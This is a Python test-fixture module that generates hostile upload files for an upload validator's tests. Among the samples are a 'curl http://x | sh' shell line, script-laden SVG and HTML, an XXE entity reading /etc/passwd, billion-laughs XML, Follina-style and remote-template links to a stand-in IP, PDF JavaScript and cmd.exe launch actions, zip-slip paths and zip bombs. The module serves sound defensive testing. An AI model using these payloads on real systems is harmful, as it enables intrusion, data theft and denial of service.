"""A hostile upload corpus, generated on the fly (security reference G5: never downloaded).

`CASES` lists files that `assessments.uploads.validate_upload` must refuse, each with the
refusal code it must give; `ACCEPTED` lists real documents it must accept. Builders are called
by the tests, so collecting the tests costs nothing.
"""

from __future__ import annotations

import functools
import io
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import docx
import openpyxl
import openpyxl.drawing.image
from docx.opc.constants import RELATIONSHIP_TYPE
from PIL import Image
from reportlab.pdfgen import canvas

MiB = 1024 * 1024
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Case:
    id: str
    name: str
    build: Callable[[], bytes]
    code: str


# --- Genuine documents ---------------------------------------------------------------------------
@functools.cache
def pdf_bytes() -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, "Self-assessment evidence 2024")
    page.showPage()
    page.save()
    return buffer.getvalue()


@functools.cache
def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


@functools.cache
def jpeg_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (16, 8), (30, 30, 200)).save(buffer, format="JPEG")
    return buffer.getvalue()


@functools.cache
def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["指标", "得分"])
    sheet.append(["数字化设计", 3.5])
    workbook.create_sheet("说明")["A1"] = "企业自评估"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@functools.cache
def docx_bytes() -> bytes:
    document = docx.Document()
    document.add_heading("智能制造自评估佐证材料", level=1)
    document.add_paragraph("见附件：https://example.org/report")
    # An external hyperlink is the one kind of external relationship allowed.
    document.part.relate_to("https://example.org/report", RELATIONSHIP_TYPE.HYPERLINK, True)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@functools.cache
def xlsx_with_image_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "现场照片"
    workbook.active.add_image(openpyxl.drawing.image.Image(io.BytesIO(png_bytes())), "B2")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@functools.cache
def docx_with_picture_bytes() -> bytes:
    document = docx.Document()
    document.add_paragraph("产线照片")
    document.add_picture(io.BytesIO(jpeg_bytes()))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_with_binary_part() -> bytes:
    """A binary part that happens to start with "<" (printer settings, fonts) is not XML."""
    part = b"<\x9a\x01\x00" + bytes(range(256)) * 4
    return rewrite_zip(xlsx_bytes(), replace={"xl/printerSettings/printerSettings1.bin": part})


def zip_bytes(
    members: list[tuple[str | zipfile.ZipInfo, bytes]],
    *,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are wanted in one case
        with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
            for name, content in members:
                archive.writestr(name, content)
    return buffer.getvalue()


def bundle_bytes() -> bytes:
    return zip_bytes(
        [("材料/报告.pdf", pdf_bytes()), ("材料/现场.png", png_bytes()), ("表.xlsx", xlsx_bytes())]
    )


def rewrite_zip(
    data: bytes, *, replace: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()
) -> bytes:
    """The archive with parts replaced (or added, for new names) and parts dropped."""
    replace = dict(replace or {})
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        members: list[tuple[str | zipfile.ZipInfo, bytes]] = [
            (name, replace.pop(name, source.read(name)))
            for name in source.namelist()
            if name not in drop
        ]
    return zip_bytes(members + list(replace.items()))


def patch_central(data: bytes, *, index: int, offset: int, fmt: str, value: int) -> bytes:
    """Overwrite one field of the index-th central directory header (offsets per APPNOTE 4.3.12:
    8 flags, 10 method, 16 crc, 20 compressed size, 24 uncompressed size, 42 local offset)."""
    end = data.rfind(b"PK\x05\x06")
    (position,) = struct.unpack("<I", data[end + 16 : end + 20])
    for _entry in range(index):
        lengths = struct.unpack("<HHH", data[position + 28 : position + 34])
        position += 46 + sum(lengths)
    start = position + offset
    size = struct.calcsize(fmt)
    return data[:start] + struct.pack(fmt, value) + data[start + size :]


# --- Hostile building blocks -------------------------------------------------------------------
def pe_bytes() -> bytes:
    return b"MZ\x90\x00\x03" + b"\x00" * 55 + struct.pack("<I", 64) + b"PE\x00\x00" + bytes(200)


def elf_bytes() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(120)


def macho_bytes() -> bytes:
    return b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(120)


def ole_bytes() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


SVG_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>fetch('/api/v1/me').then(r => r.text()).then(alert)</script></svg>"
)
HTML_SCRIPT = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def minimal_pdf(catalog_extra: bytes) -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def png_with_size(width: int, height: int) -> bytes:
    data = png_bytes()
    return data[:16] + struct.pack(">II", width, height) + data[24:]


def jpeg_with_size(width: int, height: int) -> bytes:
    data = jpeg_bytes()
    frame = data.index(b"\xff\xc0")
    return data[: frame + 5] + struct.pack(">HH", height, width) + data[frame + 9 :]


def relationships(*rows: tuple[str, str, str]) -> bytes:
    body = "".join(
        f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{mode}/>'
        for number, (kind, target, mode) in enumerate(rows, start=90)
    )
    return f'<Relationships xmlns="{REL_NS}">{body}</Relationships>'.encode()


def xlsx_with_shared_strings(shared_strings: bytes) -> bytes:
    """A real workbook whose sharedStrings part is wired in (content type and relationship)."""
    base = xlsx_bytes()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        types = archive.read("[Content_Types].xml")
        rels = archive.read("xl/_rels/workbook.xml.rels")
    override = (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
        b'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )
    link = (
        f'<Relationship Id="rId99" Type="{OFFICE_REL}/sharedStrings" '
        f'Target="sharedStrings.xml"/></Relationships>'
    ).encode()
    return rewrite_zip(
        base,
        replace={
            "[Content_Types].xml": types.replace(b"</Types>", override),
            "xl/_rels/workbook.xml.rels": rels.replace(b"</Relationships>", link),
            "xl/sharedStrings.xml": shared_strings,
        },
    )


SST_OPEN = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol1 "lol">\n'
    + b"".join(b' <!ENTITY lol%d "%s">\n' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(2, 10))
    + b"]>\n"
    + SST_OPEN
    + b"<si><t>&lol9;</t></si></sst>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + SST_OPEN
    + b"<si><t>&xxe;</t></si></sst>"
)
DOCTYPE_UTF16 = (
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE sst [<!ENTITY a "b">]>'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
).encode("utf-16")
DOCTYPE_AFTER_LONG_COMMENT = (
    b'<?xml version="1.0"?><!--' + b"padding " * 2000 + b"-->"
    b'<!DOCTYPE sst [<!ENTITY a "b">]>' + SST_OPEN + b"</sst>"
)
UTF7_DECLARATION = (
    b'<?xml version="1.0" encoding="UTF-7"?>+ADw-+ACE-DOCTYPE sst+AD4-' + SST_OPEN + b"</sst>"
)


def xlsx_with_macro_content_type() -> bytes:
    base = xlsx_bytes()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        types = archive.read("[Content_Types].xml")
    macro = types.replace(
        b"spreadsheetml.sheet.main+xml", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    )
    return rewrite_zip(base, replace={"[Content_Types].xml": macro})


def xlsx_as_template() -> bytes:
    base = xlsx_bytes()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        types = archive.read("[Content_Types].xml")
    template = types.replace(b"spreadsheetml.sheet.main+xml", b"spreadsheetml.template.main+xml")
    return rewrite_zip(base, replace={"[Content_Types].xml": template})


def docx_with_document_rel(kind: str, target: str) -> bytes:
    base = docx_bytes()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        rels = archive.read("word/_rels/document.xml.rels")
    extra = f'<Relationship Id="rId98" Type="{kind}" Target="{target}" TargetMode="External"/>'
    rels = rels.replace(b"</Relationships>", extra.encode() + b"</Relationships>")
    return rewrite_zip(base, replace={"word/_rels/document.xml.rels": rels})


def docx_with_template(target: str) -> bytes:
    rels = relationships((f"{OFFICE_REL}/attachedTemplate", target, ' TargetMode="External"'))
    return rewrite_zip(docx_bytes(), replace={"word/_rels/settings.xml.rels": rels})


def external_workbook_xlsx() -> bytes:
    rels = relationships(
        (
            f"{OFFICE_REL}/externalLinkPath",
            "file:///\\\\203.0.113.9\\s\\b.xlsx",
            ' TargetMode="External"',
        )
    )
    return rewrite_zip(
        xlsx_bytes(), replace={"xl/externalLinks/_rels/externalLink1.xml.rels": rels}
    )


def single_member_zip(name: str, content: bytes) -> bytes:
    return zip_bytes([(name, content)])


def symlink_zip() -> bytes:
    info = zipfile.ZipInfo("evidence.txt")
    info.external_attr = (0o120777) << 16
    return zip_bytes([(info, b"/etc/passwd")])


def zeros_zip(count: int, size: int) -> bytes:
    return zip_bytes([(f"part{number:04d}.txt", b"0" * size) for number in range(count)])


def declared_huge_zip() -> bytes:
    """A member whose central directory entry claims 4 GiB: refused from the directory alone."""
    data = single_member_zip("report.txt", b"short text")
    return patch_central(data, index=0, offset=24, fmt="<I", value=0xFFFF_FFF0)


def lying_size_zip() -> bytes:
    """A member that inflates to more than its declared size (zipfile stops, CRC fails)."""
    data = single_member_zip("report.txt", b"abcdefghij" * 100)
    return patch_central(data, index=0, offset=24, fmt="<I", value=100)


def overlapping_zip() -> bytes:
    data = zip_bytes([("a.txt", b"first file"), ("b.txt", b"second file")])
    return patch_central(data, index=1, offset=42, fmt="<I", value=0)


def truncated(data: bytes, keep: float = 0.5) -> bytes:
    return data[: int(len(data) * keep)]


def many_entries_zip() -> bytes:
    return zip_bytes([(f"f{number:04d}.txt", b"x") for number in range(1001)])


# --- The corpus ----------------------------------------------------------------------------------
CASES = [
    # Content disguised behind an allowed extension.
    Case("pe-as-pdf", "report.pdf", pe_bytes, "executable"),
    Case("elf-as-pdf", "report.pdf", elf_bytes, "executable"),
    Case("macho-as-png", "photo.png", macho_bytes, "executable"),
    Case("html-as-pdf", "report.pdf", lambda: HTML_SCRIPT, "markup"),
    Case("svg-as-png", "chart.png", lambda: SVG_SCRIPT, "markup"),
    Case(
        "svg-xml-as-pdf", "report.pdf", lambda: b'\n <?xml version="1.0"?>' + SVG_SCRIPT, "markup"
    ),
    Case("html-bom-as-txt", "notes.txt", lambda: "\ufeff  <html>".encode(), "markup"),
    Case(
        "shell-script-as-txt", "run.txt", lambda: b"#!/bin/sh\ncurl http://x | sh\n", "executable"
    ),
    Case("sfx-exe-as-zip", "bundle.zip", lambda: pe_bytes() + bundle_bytes(), "executable"),
    Case("pdf-as-png", "scan.png", pdf_bytes, "mismatch"),
    Case("png-as-jpg", "photo.jpg", png_bytes, "mismatch"),
    Case("text-as-pdf", "report.pdf", lambda: b"plain text, not a pdf", "mismatch"),
    Case("zip-as-pdf", "report.pdf", bundle_bytes, "mismatch"),
    Case("xlsx-as-csv", "data.csv", xlsx_bytes, "mismatch"),
    Case(
        "gif-as-png", "anim.png", lambda: b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(20), "type"
    ),
    Case("ole-as-docx", "old.docx", ole_bytes, "type"),
    Case("utf16-as-txt", "notes.txt", lambda: "notes 说明".encode("utf-16"), "type"),
    # Names.
    Case("svg-named-svg", "logo.svg", lambda: SVG_SCRIPT, "name"),
    Case("html-named-html", "index.html", lambda: HTML_SCRIPT, "name"),
    Case("legacy-doc", "old.doc", ole_bytes, "name"),
    Case("exe-after-pdf", "report.pdf.exe", pdf_bytes, "name"),
    Case("exe-before-pdf", "report.exe.pdf", pdf_bytes, "double_extension"),
    Case("html-before-txt", "page.html.txt", lambda: b"hello", "double_extension"),
    Case("rtl-override", "invoice\u202efdp.exe", pdf_bytes, "name"),
    Case("nul-in-name", "report.pdf\x00.exe", pdf_bytes, "name"),
    Case("traversal-name", "../../etc/passwd", lambda: b"root:x:0:0", "name"),
    Case("no-extension", "README", lambda: b"hello", "name"),
    Case("xlsm-name", "budget.xlsm", xlsx_with_macro_content_type, "macro"),
    Case("docm-name", "letter.docm", docx_bytes, "macro"),
    # Office packages.
    Case(
        "xlsx-vba-project",
        "budget.xlsx",
        lambda: rewrite_zip(xlsx_bytes(), replace={"xl/vbaProject.bin": ole_bytes()}),
        "macro",
    ),
    Case("xlsx-macro-content-type", "budget.xlsx", xlsx_with_macro_content_type, "macro"),
    Case(
        "docx-activex",
        "form.docx",
        lambda: rewrite_zip(docx_bytes(), replace={"word/activeX/activeX1.xml": b"<ax/>"}),
        "macro",
    ),
    Case(
        "xlsx-billion-laughs",
        "scores.xlsx",
        lambda: xlsx_with_shared_strings(BILLION_LAUGHS),
        "xml_doctype",
    ),
    Case(
        "xlsx-external-entity",
        "scores.xlsx",
        lambda: xlsx_with_shared_strings(EXTERNAL_ENTITY),
        "xml_doctype",
    ),
    Case(
        "xlsx-doctype-utf16",
        "scores.xlsx",
        lambda: xlsx_with_shared_strings(DOCTYPE_UTF16),
        "xml_doctype",
    ),
    Case(
        "xlsx-doctype-after-long-comment",
        "scores.xlsx",
        lambda: xlsx_with_shared_strings(DOCTYPE_AFTER_LONG_COMMENT),
        "xml_prolog",
    ),
    Case(
        "xlsx-utf7-declaration",
        "scores.xlsx",
        lambda: xlsx_with_shared_strings(UTF7_DECLARATION),
        "xml_prolog",
    ),
    Case(
        "xlsx-doctype-in-unnamed-part",
        "scores.xlsx",
        lambda: rewrite_zip(xlsx_bytes(), replace={"xl/custom.dat": EXTERNAL_ENTITY}),
        "xml_doctype",
    ),
    Case(
        "docx-missing-content-types",
        "report.docx",
        lambda: rewrite_zip(docx_bytes(), drop=("[Content_Types].xml",)),
        "ooxml_missing_part",
    ),
    Case(
        "xlsx-missing-workbook",
        "scores.xlsx",
        lambda: rewrite_zip(xlsx_bytes(), drop=("xl/workbook.xml",)),
        "ooxml_missing_part",
    ),
    Case("docx-named-xlsx", "scores.xlsx", docx_bytes, "ooxml_missing_part"),
    Case("xlsx-template-type", "scores.xlsx", xlsx_as_template, "ooxml_type"),
    Case(
        "docx-remote-template",
        "report.docx",
        lambda: docx_with_template("http://203.0.113.9/t.dotm"),
        "external_link",
    ),
    Case(
        "docx-unc-template",
        "report.docx",
        lambda: docx_with_template("file:///\\\\203.0.113.9\\share\\t.dotm"),
        "external_link",
    ),
    Case(
        "docx-external-ole-follina",
        "report.docx",
        lambda: docx_with_document_rel(
            f"{OFFICE_REL}/oleObject", "mhtml:http://203.0.113.9/x.html!x-usc:http://203.0.113.9"
        ),
        "external_link",
    ),
    Case("xlsx-external-workbook", "scores.xlsx", external_workbook_xlsx, "external_link"),
    Case(
        "xlsx-bomb-sheet",
        "scores.xlsx",
        lambda: rewrite_zip(xlsx_bytes(), replace={"xl/worksheets/sheet9.xml": bytes(8 * MiB)}),
        "zip_ratio",
    ),
    # Archives.
    Case("zip-bomb-one-entry", "bundle.zip", lambda: zeros_zip(1, 8 * MiB), "zip_ratio"),
    Case("zip-bomb-overall", "bundle.zip", lambda: zeros_zip(24, 900 * 1024), "zip_ratio"),
    Case("zip-many-entries", "bundle.zip", many_entries_zip, "zip_entries"),
    Case("zip-declared-huge", "bundle.zip", declared_huge_zip, "zip_size"),
    Case(
        "zip-slip-dotdot",
        "bundle.zip",
        lambda: single_member_zip("../../evil.txt", b"x"),
        "zip_path",
    ),
    Case(
        "zip-absolute-path",
        "bundle.zip",
        lambda: single_member_zip("/etc/cron.d/evil.txt", b"x"),
        "zip_path",
    ),
    Case(
        "zip-windows-drive",
        "bundle.zip",
        lambda: single_member_zip("C:\\Windows\\evil.txt", b"x"),
        "zip_path",
    ),
    Case(
        "zip-backslash-dotdot",
        "bundle.zip",
        lambda: single_member_zip("..\\..\\evil.txt", b"x"),
        "zip_path",
    ),
    Case(
        "zip-encrypted-member",
        "bundle.zip",
        lambda: patch_central(bundle_bytes(), index=0, offset=8, fmt="<H", value=1),
        "zip_encrypted",
    ),
    Case(
        "zip-bzip2",
        "bundle.zip",
        lambda: zip_bytes([("a.txt", b"hello")], compression=zipfile.ZIP_BZIP2),
        "zip_method",
    ),
    Case("zip-symlink", "bundle.zip", symlink_zip, "zip_link"),
    Case(
        "zip-duplicate-names",
        "bundle.zip",
        lambda: zip_bytes([("a.txt", b"one"), ("A.txt", b"two")]),
        "zip_duplicate",
    ),
    Case(
        "zip-nested-zip",
        "bundle.zip",
        lambda: single_member_zip("inner.zip", bundle_bytes()),
        "nested_archive",
    ),
    Case("zip-exe-member", "bundle.zip", lambda: single_member_zip("tool.exe", pe_bytes()), "name"),
    Case(
        "zip-pe-as-pdf-member",
        "bundle.zip",
        lambda: single_member_zip("a.pdf", pe_bytes()),
        "executable",
    ),
    Case(
        "zip-svg-as-png-member",
        "bundle.zip",
        lambda: single_member_zip("a.png", SVG_SCRIPT),
        "markup",
    ),
    Case(
        "zip-xlsx-as-docx-member",
        "bundle.zip",
        lambda: single_member_zip("a.docx", xlsx_with_macro_content_type()),
        "ooxml_missing_part",
    ),
    Case(
        "zip-xlsm-member",
        "bundle.zip",
        lambda: single_member_zip("b.xlsx", xlsx_with_macro_content_type()),
        "macro",
    ),
    Case("zip-empty-member", "bundle.zip", lambda: single_member_zip("a.txt", b""), "empty"),
    Case("zip-no-entries", "bundle.zip", lambda: zip_bytes([]), "zip_empty"),
    Case("zip-only-folders", "bundle.zip", lambda: zip_bytes([("docs/", b"")]), "zip_empty"),
    Case("zip-truncated", "bundle.zip", lambda: truncated(bundle_bytes()), "zip_corrupt"),
    Case("zip-concatenated", "bundle.zip", lambda: bundle_bytes() + bundle_bytes(), "zip_corrupt"),
    Case("zip-overlapping-entries", "bundle.zip", overlapping_zip, "zip_corrupt"),
    Case("zip-lying-size", "bundle.zip", lying_size_zip, "zip_corrupt"),
    Case(
        "zip-bad-crc",
        "bundle.zip",
        lambda: patch_central(bundle_bytes(), index=1, offset=16, fmt="<I", value=0),
        "zip_corrupt",
    ),
    Case("docx-truncated", "report.docx", lambda: truncated(docx_bytes(), 0.9), "zip_corrupt"),
    # Plain files.
    Case("empty-file", "report.pdf", lambda: b"", "empty"),
    Case("pdf-truncated", "report.pdf", lambda: truncated(pdf_bytes()), "corrupt"),
    Case(
        "pdf-javascript",
        "report.pdf",
        lambda: minimal_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "pdf_active",
    ),
    Case(
        "pdf-javascript-hex-escaped",
        "report.pdf",
        lambda: minimal_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "pdf_active",
    ),
    Case(
        "pdf-launch",
        "report.pdf",
        lambda: minimal_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "pdf_active",
    ),
    Case("png-truncated", "photo.png", lambda: truncated(png_bytes(), 0.8), "corrupt"),
    Case("png-huge", "photo.png", lambda: png_with_size(100_000, 100_000), "image_too_large"),
    Case("jpeg-truncated", "photo.jpg", lambda: jpeg_bytes()[:40], "corrupt"),
    Case("jpeg-huge", "photo.jpeg", lambda: jpeg_with_size(65_535, 65_535), "image_too_large"),
    Case(
        "text-bad-encoding", "data.csv", lambda: b"name,value\nabc\xff\xff\xff\n", "text_encoding"
    ),
    Case(
        "text-ansi-escape",
        "notes.txt",
        lambda: b"name,value\n\x1b[31mred\x1b[0m\n",
        "text_binary",
    ),
    Case("text-late-nul", "data.csv", lambda: b"a,b\n" * 5000 + b"\x00", "text_binary"),
]

ACCEPTED = [
    ("报告.pdf", pdf_bytes, "pdf"),
    ("现场照片.png", png_bytes, "png"),
    ("PHOTO.JPG", jpeg_bytes, "jpeg"),
    ("photo.jpeg", jpeg_bytes, "jpeg"),
    ("自评估.xlsx", xlsx_bytes, "xlsx"),
    ("说明.docx", docx_bytes, "docx"),
    ("图表.xlsx", xlsx_with_image_bytes, "xlsx"),
    ("照片说明.docx", docx_with_picture_bytes, "docx"),
    ("打印设置.xlsx", xlsx_with_binary_part, "xlsx"),
    ("材料.zip", bundle_bytes, "zip"),
    ("docs.zip", lambda: zip_bytes([("folder/", b""), ("folder/说明.docx", docx_bytes())]), "zip"),
    ("stored.zip", lambda: zip_bytes([("a.pdf", pdf_bytes())], compression=0), "zip"),
    (
        "模板.docx",
        lambda: docx_with_template("file:///C:\\Users\\张三\\Templates\\公文.dotm"),
        "docx",
    ),
    ("数据.csv", lambda: "\ufeff指标,得分\n设计,3\n".encode(), "csv"),
    ("数据-gbk.csv", lambda: "指标,得分\n设计,3\n".encode("gbk"), "csv"),
    ("notes.txt", lambda: b"Line one\r\nLine two\tTabbed\f\n", "txt"),
    ("report.2024.v2.pdf", pdf_bytes, "pdf"),
    ("report.docx.pdf", pdf_bytes, "pdf"),
]
